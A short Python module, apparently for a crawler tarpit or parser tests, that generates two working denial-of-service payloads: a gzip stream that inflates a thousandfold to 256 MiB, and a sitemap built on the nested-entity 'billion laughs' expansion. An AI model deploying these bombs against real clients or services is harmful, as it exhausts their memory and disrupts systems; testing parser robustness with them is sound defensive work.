"""Small answers that become huge when a careless reader unpacks them."""

import zlib
from functools import lru_cache

_BLOCK = b" " * (1 << 20)
_BLOCKS = 256
BOMB_SIZE = len(_BLOCK) * _BLOCKS
"""Bytes the gzip bomb unpacks to: a thousand times what is sent."""

_LEVELS = 10


@lru_cache(1)
def gzip_bomb() -> bytes:
    """A valid gzip stream of 256 MiB of blanks. Made once, from one compressed block repeated."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = packer.compress(_BLOCK) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = 0
    for _ in range(_BLOCKS):
        checksum = zlib.crc32(_BLOCK, checksum)
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    trailer = checksum.to_bytes(4, "little") + BOMB_SIZE.to_bytes(4, "little")
    return header + block * _BLOCKS + packer.flush() + trailer


def xml_bomb() -> bytes:
    """A sitemap whose one address is a thousand million words long, once its entities are unfolded."""
    entities = "".join(
        f'<!ENTITY e{level} "{f"&e{level - 1};" * 10 if level else "http"}">' for level in range(_LEVELS)
    )
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE urlset [{entities}]>'
        '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
        f"<url><loc>&e{_LEVELS - 1};</loc></url></urlset>"
    ).encode()
